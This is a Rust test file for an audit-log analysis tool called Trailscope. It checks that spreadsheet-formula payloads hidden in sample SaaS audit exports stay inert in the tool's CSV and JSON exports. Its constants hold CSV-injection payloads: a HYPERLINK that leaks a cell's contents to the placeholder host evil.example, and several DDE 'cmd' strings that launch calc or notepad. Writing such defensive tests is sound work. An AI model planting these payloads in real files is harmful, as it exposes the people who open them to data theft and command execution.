//! Spreadsheet formulas in SaaS exports stay inert in every export Trailscope writes
//! (issue 12). Records of seven export shapes (Microsoft 365 Purview CSV and JSON, Okta,
//! GitHub CSV, GitLab JSON and CSV, Google Workspace, Salesforce CSV), written here by
//! hand in each format's documented shape, carry formula payloads (`=HYPERLINK(…)`,
//! `@SUM(…)`, `+cmd|…`, `-2+3…`, tab- and CR-led cells) in actor and target names and
//! ids, actions, before and after values, user agents, addresses and messages. They are
//! imported through the `trailscope` binary, then exported every way there is: the
//! engine's CSV and JSON Lines, the file export the app runs, the CLI's `export` and its
//! `events --format csv|json`.
//!
//! Every CSV cell a spreadsheet would run as a formula must carry the leading apostrophe
//! and then the text exactly as it was recorded; every JSON line must be one valid JSON
//! object holding the payloads whole and the record exactly as it arrived. (Trailscope
//! writes no HTML export; the app shows text from events as text, never as markup.)

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use trailscope::case::Case;
use trailscope::export::{ExportFormat, export_events, export_to_file};
use trailscope::query::EventFilter;

use crate::support::{all_events, import, run_trailscope};

const EQ: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click here")"#;
const AT: &str = "@SUM(1+9)*cmd|' /C calc'!A0";
const PLUS: &str = "+cmd|' /C notepad'!A0";
const MINUS: &str = "-2+3+cmd|' /C calc'!A0";
const TAB: &str = "\t=1+2+cmd|' /C calc'!A0";
const CR: &str = "\r=3+4+cmd|' /C calc'!A0";

/// What a spreadsheet runs as a formula when a cell begins with it.
const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn formula_led(text: &str) -> bool {
    text.starts_with(FORMULA_LEADS)
}

/// A payload put in a record, where the normalized event holds it (a JSON pointer into
/// the exported document) and, when it is one of the CSV columns, which one.
struct Planted {
    event: &'static str,
    pointer: &'static str,
    column: Option<&'static str>,
    /// The text as the event keeps it: names, ids and addresses are kept without the
    /// spaces, tabs and line breaks around them (docs/event-model.md); actions, values
    /// and messages exactly as written.
    value: String,
}

fn at(event: &'static str, pointer: &'static str, value: &str) -> Planted {
    Planted {
        event,
        pointer,
        column: None,
        value: value.to_owned(),
    }
}

fn cell(event: &'static str, column: &'static str, pointer: &'static str, value: &str) -> Planted {
    Planted {
        column: Some(column),
        ..at(event, pointer, value)
    }
}

/// One CSV row as a writer of the format would put it (quoted where it must be),
/// without its line break.
fn csv_row(fields: &[&str]) -> String {
    let mut writer = csv::WriterBuilder::new().from_writer(Vec::new());
    writer.write_record(fields).unwrap();
    let mut text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
    assert_eq!(text.pop(), Some('\n'));
    text
}

/// A CSV file's text from its header and rows.
fn csv_file(header: &str, rows: &[&String]) -> String {
    let mut text = format!("{header}\n");
    for row in rows {
        text.push_str(row);
        text.push('\n');
    }
    text
}

/// Each record as it arrived: a CSV row's exact text, or a JSON record's value.
enum Arrived {
    Row(String),
    Json(Value),
}

/// The exports written, the case they were imported into, the payloads and where they
/// went, and each event's record as written.
struct Imported {
    temp: tempfile::TempDir,
    case: PathBuf,
    planted: Vec<Planted>,
    arrived: HashMap<&'static str, Arrived>,
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// Writes the exports, imports each into one case and checks every record became an
/// event (none quarantined).
fn imported() -> Imported {
    let temp = tempfile::tempdir().unwrap();
    let dir = temp.path();
    let mut planted = Vec::new();
    let mut arrived = HashMap::new();
    let mut sources = Vec::new();

    // Microsoft 365 Purview, the classic search export: the record is AuditData.
    let exchange = json!({
        "Id": "pv-csv-1", "RecordType": 1, "CreationTime": "2026-03-02T09:15:00",
        "Operation": TAB, "Workload": "Exchange", "UserId": EQ, "UserType": 0,
        "LogonUserDisplayName": AT, "ObjectId": PLUS, "ModifiedObjectResolvedName": MINUS,
        "ClientIP": "203.0.113.7:51234", "UserAgent": CR, "ResultStatus": "Succeeded",
        "Parameters": [{"Name": "ForwardingSmtpAddress", "Value": EQ}]
    });
    let row = csv_row(&[
        "2026-03-02T09:15:00.0000000Z",
        EQ,
        TAB,
        &exchange.to_string(),
    ]);
    let path = dir.join("purview.csv");
    write(
        &path,
        &csv_file("CreationDate,UserIds,Operations,AuditData", &[&row]),
    );
    sources.push(path);
    arrived.insert("pv-csv-1", Arrived::Row(row));
    planted.extend([
        cell("pv-csv-1", "action", "/action", TAB),
        cell("pv-csv-1", "actor_id", "/actor/id", EQ),
        cell("pv-csv-1", "actor_name", "/actor/name", AT),
        cell("pv-csv-1", "target_id", "/target/id", PLUS),
        cell("pv-csv-1", "target_name", "/target/name", MINUS),
        at("pv-csv-1", "/source/user_agent", CR.trim()),
        at("pv-csv-1", "/requested/ForwardingSmtpAddress", EQ),
    ]);

    // Microsoft 365 Purview, Management Activity API JSON: an array of AuditData.
    let directory = json!({
        "Id": "pv-json-1", "RecordType": 8, "CreationTime": "2026-03-02T09:20:00",
        "Operation": "Update user.", "OrganizationId": "org", "UserType": 0,
        "UserKey": "10032001@acme.com", "Workload": "AzureActiveDirectory",
        "ResultStatus": "Success", "ObjectId": "User_8d0c", "UserId": "maria@acme.com",
        "LogonUserDisplayName": CR, "ClientIP": MINUS,
        "Target": [{"ID": "User_8d0c", "Type": 2}, {"ID": PLUS, "Type": 5}],
        "ModifiedProperties": [{"Name": "Department", "OldValue": AT, "NewValue": EQ}]
    });
    let path = dir.join("purview.json");
    write(&path, &json!([directory]).to_string());
    sources.push(path);
    arrived.insert("pv-json-1", Arrived::Json(directory));
    planted.extend([
        cell("pv-json-1", "actor_name", "/actor/name", CR.trim()),
        cell("pv-json-1", "target_id", "/target/id", PLUS),
        at("pv-json-1", "/source/ip", MINUS),
        at("pv-json-1", "/before/Department", AT),
        at("pv-json-1", "/after/Department", EQ),
    ]);

    // Okta System Log, one LogEvent a line.
    let profile = json!({
        "uuid": "okta-1", "published": "2026-03-02T10:00:00.000Z",
        "eventType": "user.account.update_profile", "displayMessage": EQ,
        "actor": {"id": "00u1maria", "type": "User", "alternateId": "maria@acme.com",
                  "displayName": PLUS},
        "client": {"userAgent": {"rawUserAgent": AT}, "ipAddress": MINUS},
        "outcome": {"result": "SUCCESS"},
        "target": [{"id": "00u1bob", "type": "User", "alternateId": "bob@acme.com",
                    "displayName": EQ,
                    "changeDetails": {"from": {"department": TAB}, "to": {"department": CR}}}]
    });
    let denied = json!({
        "uuid": "okta-2", "published": "2026-03-02T10:05:00.000Z", "eventType": TAB,
        "actor": {"id": MINUS, "type": "PublicClientApp", "alternateId": "unknown",
                  "displayName": "HR Sync"},
        "outcome": {"result": "DENY", "reason": AT}
    });
    let path = dir.join("okta.jsonl");
    write(&path, &format!("{profile}\n{denied}\n"));
    sources.push(path);
    arrived.insert("okta-1", Arrived::Json(profile));
    arrived.insert("okta-2", Arrived::Json(denied));
    planted.extend([
        cell("okta-1", "actor_name", "/actor/name", PLUS),
        cell("okta-1", "target_name", "/target/name", EQ),
        at("okta-1", "/before/department", TAB),
        at("okta-1", "/after/department", CR),
        at("okta-1", "/source/user_agent", AT),
        at("okta-1", "/source/ip", MINUS),
        at("okta-1", "/context/display_message", EQ),
        cell("okta-2", "action", "/action", TAB),
        cell("okta-2", "actor_id", "/actor/id", MINUS),
        at("okta-2", "/reason", AT),
    ]);

    // GitHub, the CSV export (nested keys flattened into dotted columns).
    let access = csv_row(&[
        "1772445000000",
        "gh-1",
        "repo.access",
        EQ,
        PLUS,
        AT,
        "acme",
        MINUS,
        CR,
        TAB,
        "",
        "",
        "",
    ]);
    let member = csv_row(&[
        "1772445300000",
        "gh-2",
        "org.update_member",
        "maria-lopez",
        "",
        "",
        "acme",
        "",
        "",
        "",
        EQ,
        PLUS,
        MINUS,
    ]);
    let path = dir.join("github.csv");
    write(
        &path,
        &csv_file(
            "@timestamp,_document_id,action,actor,actor_ip,user_agent,org,repo,visibility,visibility_was,user,permission,old_permission",
            &[&access, &member],
        ),
    );
    sources.push(path);
    arrived.insert("gh-1", Arrived::Row(access));
    arrived.insert("gh-2", Arrived::Row(member));
    planted.extend([
        cell("gh-1", "actor_id", "/actor/id", EQ),
        cell("gh-1", "target_id", "/target/id", MINUS),
        at("gh-1", "/source/ip", PLUS),
        at("gh-1", "/source/user_agent", AT),
        at("gh-1", "/before/visibility", TAB),
        at("gh-1", "/after/visibility", CR),
        cell("gh-2", "target_name", "/target/name", EQ),
        at("gh-2", "/target/id", &format!("acme:{EQ}")),
        at("gh-2", "/before/permission", MINUS),
        at("gh-2", "/after/permission", PLUS),
    ]);

    // GitLab, the REST API's JSON, one audit event a line.
    let changed = json!({
        "id": 4711, "author_id": 7, "author_name": EQ, "entity_id": 11,
        "entity_type": "Group", "entity_path": "acme/platform", "event_type": "member_updated",
        "details": {"change": "access_level", "from": MINUS, "to": PLUS, "author_name": EQ,
                    "author_email": "maria@acme.com", "target_id": 42, "target_type": "User",
                    "target_details": AT, "ip_address": TAB, "entity_path": "acme/platform"},
        "ip_address": TAB, "target_id": 42, "target_type": "User", "target_details": AT,
        "created_at": "2026-03-02T10:30:00.000Z"
    });
    let message = json!({
        "id": 4712, "author_id": 8, "author_name": "Omar Sato", "entity_id": 12,
        "entity_type": "Project", "entity_path": "acme/api",
        "details": {"custom_message": CR, "author_name": "Omar Sato", "target_id": 12,
                    "target_type": "Project", "target_details": "acme/api"},
        "target_id": 12, "target_type": "Project", "target_details": "acme/api",
        "created_at": "2026-03-02T10:35:00.000Z"
    });
    let path = dir.join("gitlab.jsonl");
    write(&path, &format!("{changed}\n{message}\n"));
    sources.push(path);
    arrived.insert("4711", Arrived::Json(changed));
    arrived.insert("4712", Arrived::Json(message));
    planted.extend([
        cell("4711", "actor_id", "/actor/id", EQ),
        cell("4711", "target_name", "/target/name", AT),
        at("4711", "/before/access_level", MINUS),
        at("4711", "/after/access_level", PLUS),
        at("4711", "/source/ip", TAB.trim()),
        // A custom message with no event type is what was done.
        cell("4712", "action", "/action", CR),
    ]);

    // GitLab, the admin area's CSV export: `Action` is the sentence GitLab makes.
    let sentence = format!("Changed access level from {MINUS} to {AT}");
    let level = csv_row(&[
        "9001",
        "7",
        PLUS,
        "11",
        "Group",
        "acme/platform",
        "42",
        "User",
        EQ,
        &sentence,
        TAB,
        "2026-03-02 10:40:00",
    ]);
    let said = csv_row(&[
        "9002",
        "8",
        "Omar Sato",
        "12",
        "Project",
        "acme/api",
        "12",
        "Project",
        "acme/api",
        EQ,
        "198.51.100.4",
        "2026-03-02 10:45:00",
    ]);
    let path = dir.join("gitlab.csv");
    write(
        &path,
        &csv_file(
            "ID,Author ID,Author Name,Entity ID,Entity Type,Entity Path,Target ID,Target Type,Target Details,Action,IP Address,Created At (UTC)",
            &[&level, &said],
        ),
    );
    sources.push(path);
    arrived.insert("9001", Arrived::Row(level));
    arrived.insert("9002", Arrived::Row(said));
    planted.extend([
        cell("9001", "actor_id", "/actor/id", PLUS),
        cell("9001", "target_name", "/target/name", EQ),
        at("9001", "/before/access_level", MINUS),
        at("9001", "/after/access_level", AT),
        at("9001", "/source/ip", TAB.trim()),
        cell("9002", "action", "/action", EQ),
    ]);

    // Google Workspace, a Reports API page: one activity of two events.
    let activity = json!({
        "kind": "admin#reports#activity",
        "id": {"time": "2026-03-02T11:00:00.000Z", "uniqueQualifier": "-4471822914385412398",
               "applicationName": "admin", "customerId": "C03az79cb"},
        "actor": {"callerType": "USER", "email": AT, "profileId": "1093"},
        "ipAddress": MINUS,
        "events": [
            {"type": "APPLICATION_SETTINGS", "name": "CHANGE_APPLICATION_SETTING",
             "parameters": [{"name": "APPLICATION_NAME", "value": PLUS},
                            {"name": "SETTING_NAME", "value": "Email forwarding"},
                            {"name": "OLD_VALUE", "value": TAB},
                            {"name": "NEW_VALUE", "value": CR}]},
            {"type": "USER_SETTINGS", "name": EQ,
             "parameters": [{"name": "USER_EMAIL", "value": EQ}]}
        ]
    });
    let path = dir.join("google.json");
    write(
        &path,
        &json!({"kind": "admin#reports#activities", "items": [activity]}).to_string(),
    );
    sources.push(path);
    const SETTING: &str = "2026-03-02T11:00:00.000Z|-4471822914385412398|0";
    const SECOND: &str = "2026-03-02T11:00:00.000Z|-4471822914385412398|1";
    arrived.insert(SETTING, Arrived::Json(activity.clone()));
    arrived.insert(SECOND, Arrived::Json(activity));
    planted.extend([
        cell(SETTING, "actor_id", "/actor/id", AT),
        cell(SETTING, "target_id", "/target/id", PLUS),
        at(SETTING, "/source/ip", MINUS),
        at(SETTING, "/before/Email forwarding", TAB),
        at(SETTING, "/after/Email forwarding", CR),
        cell(SECOND, "action", "/action", EQ),
        cell(SECOND, "target_id", "/target/id", EQ),
    ]);

    // Salesforce, a folder: the Setup Audit Trail, a field history and the User export
    // that names the user both were done by.
    let folder = dir.join("salesforce");
    let display = format!("Changed profile for user Omar Sato from {MINUS} to {AT}");
    let setup = csv_row(&[
        "0Ym000000000001AAA",
        EQ,
        PLUS,
        &display,
        "005000000000001AAA",
        "2026-03-02T12:00:00.000+0000",
        "",
    ]);
    write(
        &folder.join("SetupAuditTrail.csv"),
        &csv_file(
            "Id,Action,Section,Display,CreatedById,CreatedDate,DelegateUser",
            &[&setup],
        ),
    );
    let history = csv_row(&[
        "008000000000002AAA",
        "006000000000001AAA",
        "NextStep",
        "Text",
        TAB,
        CR,
        "005000000000001AAA",
        "2026-03-02T12:30:00.000Z",
    ]);
    write(
        &folder.join("OpportunityFieldHistory.csv"),
        &csv_file(
            "Id,OpportunityId,Field,DataType,OldValue,NewValue,CreatedById,CreatedDate",
            &[&history],
        ),
    );
    let user = csv_row(&[
        "005000000000001AAA",
        "maria@acme.com.prod",
        CR,
        "maria@acme.com",
    ]);
    write(
        &folder.join("User.csv"),
        &csv_file("Id,Username,Name,Email", &[&user]),
    );
    sources.push(folder);
    arrived.insert("0Ym000000000001AAA", Arrived::Row(setup));
    arrived.insert("008000000000002AAA", Arrived::Row(history));
    planted.extend([
        cell("0Ym000000000001AAA", "action", "/action", EQ),
        cell("0Ym000000000001AAA", "actor_name", "/actor/name", CR.trim()),
        cell("0Ym000000000001AAA", "target_id", "/target/id", PLUS),
        cell("0Ym000000000001AAA", "target_name", "/target/name", PLUS),
        at(
            "0Ym000000000001AAA",
            "/before/profile for user Omar Sato",
            MINUS,
        ),
        at(
            "0Ym000000000001AAA",
            "/after/profile for user Omar Sato",
            AT,
        ),
        cell("008000000000002AAA", "actor_name", "/actor/name", CR.trim()),
        at("008000000000002AAA", "/before/NextStep", TAB),
        at("008000000000002AAA", "/after/NextStep", CR),
    ]);

    let case = dir.join("formulas.case");
    for source in &sources {
        let output = import(&case, source);
        assert_eq!(
            output.status.code(),
            Some(4),
            "{}: imported, unverifiable: {}",
            source.display(),
            String::from_utf8_lossy(&output.stderr)
        );
    }
    let rows = all_events(&Case::open_read_only(&case).unwrap());
    let quarantined: Vec<_> = rows.iter().filter_map(|r| r.malformed.as_ref()).collect();
    assert!(quarantined.is_empty(), "{quarantined:?}");
    let mut ids: Vec<&str> = rows.iter().filter_map(|r| r.id.as_deref()).collect();
    ids.sort_unstable();
    let mut expected: Vec<&str> = arrived.keys().copied().collect();
    expected.sort_unstable();
    assert_eq!(ids, expected, "every record is one event");
    Imported {
        temp,
        case,
        planted,
        arrived,
    }
}

/// The real binary's standard output, which must succeed.
fn run(args: &[&str]) -> Vec<u8> {
    let output = run_trailscope(args);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output.stdout
}

/// A CSV export's rows by event id, as a spreadsheet reads the file (RFC 4180).
fn csv_rows(what: &str, bytes: &[u8]) -> HashMap<String, HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(bytes);
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(header, trailscope::export::CSV_COLUMNS, "{what}");
    let mut rows = HashMap::new();
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{what}: {e}"));
        let row: HashMap<String, String> = header
            .iter()
            .cloned()
            .zip(record.iter().map(str::to_owned))
            .collect();
        rows.insert(row["event_id"].trim_start_matches('\'').to_owned(), row);
    }
    rows
}

/// No cell of a CSV export starts a formula; each neutralised cell holds the apostrophe
/// and then the whole text; every payload planted in a column is there, neutralised.
/// Returns how many cells were neutralised.
fn check_csv(what: &str, bytes: &[u8], imported: &Imported) -> usize {
    let rows = csv_rows(what, bytes);
    assert_eq!(
        rows.len(),
        imported.arrived.len(),
        "{what}: one row an event"
    );
    let mut neutralised = 0;
    for (id, row) in &rows {
        for (column, text) in row {
            assert!(
                !formula_led(text),
                "{what}: event {id}, {column} starts a formula: {text:?}"
            );
            if let Some(rest) = text.strip_prefix('\'')
                && formula_led(rest)
            {
                neutralised += 1;
            }
        }
    }
    let mut checked = 0;
    for planted in &imported.planted {
        let Some(column) = planted.column else {
            continue;
        };
        assert!(formula_led(&planted.value), "{}", planted.value);
        let row = &rows[planted.event];
        assert_eq!(
            row[column],
            format!("'{}", planted.value),
            "{what}: event {}, {column}",
            planted.event
        );
        checked += 1;
    }
    assert!(checked >= 20, "{checked}");
    assert!(neutralised >= checked, "{what}: {neutralised} < {checked}");
    neutralised
}

/// Every line of a JSON export is one JSON object; each event's document holds every
/// payload planted in it, whole, and its record as it arrived.
fn check_json(what: &str, bytes: &[u8], imported: &Imported) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: {e}"));
    let lines: Vec<&str> = text
        .strip_suffix('\n')
        .unwrap_or(text)
        .split('\n')
        .collect();
    assert_eq!(
        lines.len(),
        imported.arrived.len(),
        "{what}: one line an event"
    );
    let mut documents: HashMap<String, Value> = HashMap::new();
    for line in lines {
        assert!(
            !line.contains(['\r', '\t']),
            "{what}: control characters are escaped: {line:?}"
        );
        let document: Value =
            serde_json::from_str(line).unwrap_or_else(|e| panic!("{what}: {e}: {line}"));
        assert!(document.is_object(), "{what}: {line}");
        documents.insert(document["id"].as_str().unwrap().to_owned(), document);
    }
    for planted in &imported.planted {
        let document = &documents[planted.event];
        assert_eq!(
            document.pointer(planted.pointer),
            Some(&json!(planted.value)),
            "{what}: event {}, {}",
            planted.event,
            planted.pointer
        );
    }
    for (id, arrived) in &imported.arrived {
        let record = documents[*id]["record"].as_str().unwrap();
        match arrived {
            Arrived::Row(row) => assert_eq!(record, row, "{what}: event {id}"),
            Arrived::Json(value) => {
                let parsed: Value = serde_json::from_str(record).unwrap();
                assert_eq!(&parsed, value, "{what}: event {id}");
            }
        }
    }
}

fn path_str(path: &Path) -> &str {
    path.to_str().unwrap()
}

#[test]
fn formula_payloads_in_saas_exports_stay_inert_in_every_csv_export() {
    let imported = imported();
    let case_path = &imported.case;
    let case = Case::open_read_only(case_path).unwrap();
    let all = EventFilter::default();

    let mut engine = Vec::new();
    export_events(&case, &all, ExportFormat::Csv, &mut engine).unwrap();
    let neutralised = check_csv("the engine's CSV export", &engine, &imported);

    // The file the app's export writes.
    let app = imported.temp.path().join("app.csv");
    export_to_file(&case, &all, ExportFormat::Csv, &app).unwrap();
    assert_eq!(std::fs::read(&app).unwrap(), engine, "the app's export");

    // The CLI: `export` to a file, and `events` printing CSV (newest first).
    let cli = imported.temp.path().join("cli.csv");
    run(&[
        "export",
        "--case",
        path_str(case_path),
        "--format",
        "csv",
        "--out",
        path_str(&cli),
    ]);
    let cli = std::fs::read(&cli).unwrap();
    assert_eq!(cli, engine, "the CLI's export");
    let printed = run(&[
        "events",
        "--case",
        path_str(case_path),
        "--format",
        "csv",
        "--limit",
        "1000",
    ]);
    assert_eq!(
        check_csv("trailscope events --format csv", &printed, &imported),
        neutralised
    );

    // The payloads are named in the sentences too, whole, never leading one unguarded.
    let rows = csv_rows("the engine's CSV export", &engine);
    let sentence = |id: &str| rows[id]["sentence"].clone();
    for (id, payload) in [("okta-1", PLUS), ("4711", EQ), ("gh-1", EQ)] {
        assert!(sentence(id).contains(payload), "{id}: {}", sentence(id));
    }
}

#[test]
fn formula_payloads_reach_the_json_exports_whole_and_as_valid_json() {
    let imported = imported();
    let case_path = &imported.case;
    let case = Case::open_read_only(case_path).unwrap();
    let all = EventFilter::default();

    let mut engine = Vec::new();
    export_events(&case, &all, ExportFormat::Jsonl, &mut engine).unwrap();
    check_json("the engine's JSON Lines export", &engine, &imported);

    let app = imported.temp.path().join("app.jsonl");
    export_to_file(&case, &all, ExportFormat::Jsonl, &app).unwrap();
    assert_eq!(std::fs::read(&app).unwrap(), engine, "the app's export");

    let cli = imported.temp.path().join("cli.jsonl");
    run(&[
        "export",
        "--case",
        path_str(case_path),
        "--format",
        "jsonl",
        "--out",
        path_str(&cli),
    ]);
    assert_eq!(std::fs::read(&cli).unwrap(), engine, "the CLI's export");
    let printed = run(&[
        "events",
        "--case",
        path_str(case_path),
        "--format",
        "json",
        "--limit",
        "1000",
    ]);
    check_json("trailscope events --format json", &printed, &imported);
}
